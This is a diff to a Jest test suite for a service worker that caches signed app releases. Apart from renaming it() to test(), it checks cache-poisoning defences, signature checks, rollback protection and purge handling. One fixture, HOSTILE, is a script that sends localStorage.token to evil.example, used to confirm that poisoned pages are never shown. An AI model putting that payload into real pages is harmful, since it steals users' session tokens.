@@ -1,4 +1,4 @@
-import { afterEach, beforeEach, describe, expect, it, jest } from '@jest/globals';
+import { afterEach, beforeEach, describe, expect, jest, test } from '@jest/globals';
 import { provideCaches } from '../testing/caches.ts';
 import { integrityOf } from '../testing/integrity-of.ts';
 import { signingKey } from '../testing/signing-key.ts';
@@ -6,7 +6,10 @@ import { openTestEdge, POLICY } from '../testing/test-edge.ts';
 
 const DAY_MS = 86_400_000;
 
-type Signed = { text: string; signature: string };
+interface Signed {
+  text: string;
+  signature: string;
+}
 
 let stores: ReturnType<typeof provideCaches>;
 let edge: Awaited<ReturnType<typeof openTestEdge>>;
@@ -60,7 +63,7 @@ afterEach(() => void jest.useRealTimers());
 describe('a hostile page that writes into the caches', () => {
   const HOSTILE = '<html><script>fetch("https://evil.example/"+localStorage.token)</script>';
 
-  it('gets none of its pages shown', async () => {
+  test('gets none of its pages shown', async () => {
     await storeSet('a');
     for (const [name, store] of stores) for (const url of store.keys()) poison(name, url, HOSTILE);
     for (const name of ['set-a', 'notes', 'sets', 'files']) poison(name, '/', HOSTILE);
@@ -68,7 +71,7 @@ describe('a hostile page that writes into the caches', () => {
     expect(await pageNow()).toBeUndefined();
   });
 
-  it('gets no file used, and the next store of the set mends them', async () => {
+  test('gets no file used, and the next store of the set mends them', async () => {
     await storeSet('a');
     poison('files', '/r/catalog/1.0.0/entry.js', HOSTILE);
     poison('files', '/r/catalog/1.0.0/one.js', HOSTILE);
@@ -82,7 +85,7 @@ describe('a hostile page that writes into the caches', () => {
     expect(filesStored()).not.toContain('/r/catalog/1.0.0/own.js');
   });
 
-  it.each([
+  test.each([
     ['a changed letter', async ({ text, signature }: Signed) => ({ text: text.replace('1.0.0', '6.6.6'), signature })],
     ['a key of its own', async ({ text }: Signed) => ({ text, signature: await (await signingKey('k1')).sign(text) })],
     ['no text at all', async () => ({})],
@@ -92,7 +95,7 @@ describe('a hostile page that writes into the caches', () => {
     expect(await pageNow()).toBeUndefined();
   });
 
-  it('gets no preview stored, neither by the worker nor in the store itself', async () => {
+  test('gets no preview stored, neither by the worker nor in the store itself', async () => {
     await storeSet('a');
     const preview = await edge.goesLive('p', [shellOf('1.0.0'), remoteOf('catalog', '6.6.6')], { preview: true });
     await expect(storeSet('p')).rejects.toThrow('The set is not signed for this device');
@@ -104,7 +107,7 @@ describe('a hostile page that writes into the caches', () => {
     expect(await setNow()).toBe('a');
   });
 
-  it('cannot put an older set before the present one', async () => {
+  test('cannot put an older set before the present one', async () => {
     const older = { ...edge.live, at: Date.now() };
     await edge.goesLive('b', [shellOf('1.0.0'), remoteOf('catalog', '2.0.0')]);
     await storeSet('b');
@@ -114,7 +117,7 @@ describe('a hostile page that writes into the caches', () => {
 });
 
 describe('a stored set', () => {
-  it('starts the app with the policy and the mark of a stored page', async () => {
+  test('starts the app with the policy and the mark of a stored page', async () => {
     await storeSet('a');
     edge.isOffline = true;
     const page = await (await worker()).madePage('/nowhere');
@@ -130,7 +133,7 @@ describe('a stored set', () => {
     ]);
   });
 
-  it('is stored whole or not at all', async () => {
+  test('is stored whole or not at all', async () => {
     edge.published.delete('/r/wallet/1.0.0/one.js');
     await expect(storeSet('a')).rejects.toThrow('404');
     expect([await setNow(), filesStored()]).toEqual([undefined, []]);
@@ -139,7 +142,7 @@ describe('a stored set', () => {
     expect([await setNow(), filesStored()]).toEqual([undefined, []]);
   });
 
-  it('stays when a file of the next set is lost', async () => {
+  test('stays when a file of the next set is lost', async () => {
     await storeSet('a');
     const before = filesStored();
     await edge.goesLive('b', [shellOf('2.0.0', 'new'), remoteOf('catalog', '2.0.0')]);
@@ -148,7 +151,7 @@ describe('a stored set', () => {
     expect([await setNow(), filesStored()]).toEqual(['a', before]);
   });
 
-  it('is fetched once for parallel requests, and again after a failure', async () => {
+  test('is fetched once for parallel requests, and again after a failure', async () => {
     edge.isOffline = true;
     const { storeSet } = await worker();
     await expect(storeSet('a')).rejects.toThrow('Failed to fetch');
@@ -160,7 +163,7 @@ describe('a stored set', () => {
     expect(edge.asked).toHaveLength(8);
   });
 
-  it('asks for its document again after a day by the phone’s clock, and loads no file', async () => {
+  test('asks for its document again after a day by the phone’s clock, and loads no file', async () => {
     jest.useFakeTimers({ now: Date.now() + 400 * DAY_MS, doNotFake: ['setTimeout', 'setImmediate', 'nextTick'] });
     await storeSet('a');
     edge.asked = [];
@@ -171,7 +174,7 @@ describe('a stored set', () => {
     expect(edge.asked).toEqual(['/discovery.json']);
   });
 
-  it('contains only the used remotes on a costly network, and grows with further use', async () => {
+  test('contains only the used remotes on a costly network, and grows with further use', async () => {
     await storeSet('a', ['catalog']);
     expect(filesAsked().some((path) => path.includes('/wallet/'))).toBe(false);
     edge.asked = [];
@@ -179,14 +182,14 @@ describe('a stored set', () => {
     expect(filesAsked()).toEqual(['/r/wallet/1.0.0/entry.js', '/r/wallet/1.0.0/one.js']);
   });
 
-  it('contains no file of a switched-off remote', async () => {
+  test('contains no file of a switched-off remote', async () => {
     const wallet = { ...remoteOf('wallet', '1.0.0'), off: { message: 'Closed' } };
     await edge.goesLive('a', [shellOf('1.0.0'), remoteOf('catalog', '1.0.0'), wallet]);
     await storeSet('a');
     expect(filesAsked().some((path) => path.includes('/wallet/'))).toBe(false);
   });
 
-  it('ignores an older answer, until the newer document has expired', async () => {
+  test('ignores an older answer, until the newer document has expired', async () => {
     const older = edge.live;
     await edge.goesLive('b', [shellOf('1.0.0'), remoteOf('catalog', '2.0.0')]);
     await storeSet('b');
@@ -200,7 +203,7 @@ describe('a stored set', () => {
 });
 
 describe('the next set', () => {
-  it('loads only the bytes that are not stored, under their new addresses', async () => {
+  test('loads only the bytes that are not stored, under their new addresses', async () => {
     await storeSet('a');
     edge.asked = [];
     await edge.goesLive('b', [
@@ -216,7 +219,7 @@ describe('the next set', () => {
     expect([copy?.url, copy?.headers.get('content-type')]).toEqual(['', 'text/x']);
   });
 
-  it('gets its stored bytes before it is stored, by the hashes of its page', async () => {
+  test('gets its stored bytes before it is stored, by the hashes of its page', async () => {
     await storeSet('a');
     const { text } = await edge.goesLive('b', [shellOf('1.0.1', 'new shell'), remoteOf('catalog', '1.0.0')]);
     const started = await worker();
@@ -230,7 +233,7 @@ describe('the next set', () => {
     expect(await page.text()).toBe(html);
   });
 
-  it('is read only from a page whose set is not stored', async () => {
+  test('is read only from a page whose set is not stored', async () => {
     await storeSet('a');
     const page = new Response('', { headers: { 'x-viewmax-page-set': 'a' } });
     const clone = jest.spyOn(page, 'clone');
@@ -238,7 +241,7 @@ describe('the next set', () => {
     expect(clone).not.toHaveBeenCalled();
   });
 
-  it('costs no file after a rollback', async () => {
+  test('costs no file after a rollback', async () => {
     const before = [shellOf('1.0.0'), remoteOf('catalog', '1.0.0')];
     await storeSet('a');
     await edge.goesLive('b', [shellOf('2.0.0', 'new'), remoteOf('catalog', '2.0.0')]);
@@ -249,7 +252,7 @@ describe('the next set', () => {
     expect([filesAsked(), await setNow()]).toEqual([[], 'a']);
   });
 
-  it('leaves the set before for seven days', async () => {
+  test('leaves the set before for seven days', async () => {
     jest.useFakeTimers({ now: Date.now() + 30 * DAY_MS, doNotFake: ['setTimeout', 'setImmediate', 'nextTick'] });
     const OLD = '/r/catalog/1.0.0/entry.js';
     await storeSet('a');
@@ -265,7 +268,7 @@ describe('the next set', () => {
     expect(filesStored()).toContain('/r/catalog/2.0.0/entry.js');
   });
 
-  it('leaves three sets before it', async () => {
+  test('leaves three sets before it', async () => {
     for (const [index, id] of ['b', 'c', 'd', 'e'].entries()) {
       await storeSet();
       await edge.goesLive(id, [shellOf('1.0.0'), remoteOf('catalog', `2.${index}.0`)]);
@@ -288,7 +291,7 @@ describe('a purged release', () => {
     edge.asked = [];
   });
 
-  it('loses its set with the next one, by one request of its headers', async () => {
+  test('loses its set with the next one, by one request of its headers', async () => {
     purge();
     await storeSet('good');
     expect(edge.asked.filter((one) => one.startsWith('HEAD'))).toEqual([`HEAD ${PURGED}entry.js`]);
@@ -296,14 +299,14 @@ describe('a purged release', () => {
     expect(await setNow()).toBe('good');
   });
 
-  it('loses its set even if the next one cannot be stored', async () => {
+  test('loses its set even if the next one cannot be stored', async () => {
     purge();
     edge.published.delete('/r/catalog/1.0.0/entry.js');
     await expect(storeSet('good')).rejects.toThrow('404');
     expect([await setNow(), filesStored().some((path) => path.startsWith(PURGED))]).toEqual([undefined, false]);
   });
 
-  it('loses its set within a day when the purge comes after the next set', async () => {
+  test('loses its set within a day when the purge comes after the next set', async () => {
     jest.useFakeTimers({ now: Date.now(), doNotFake: ['setTimeout', 'setImmediate', 'nextTick'] });
     await storeSet('good');
     expect(filesStored().some((path) => path.startsWith(PURGED))).toBe(true);
@@ -313,7 +316,7 @@ describe('a purged release', () => {
     expect(filesStored().some((path) => path.startsWith(PURGED))).toBe(false);
   });
 
-  it('appears no more once the edge said so', async () => {
+  test('appears no more once the edge said so', async () => {
     const { forgetSets } = await worker();
     await forgetSets();
     expect(await setNow()).toBeUndefined();
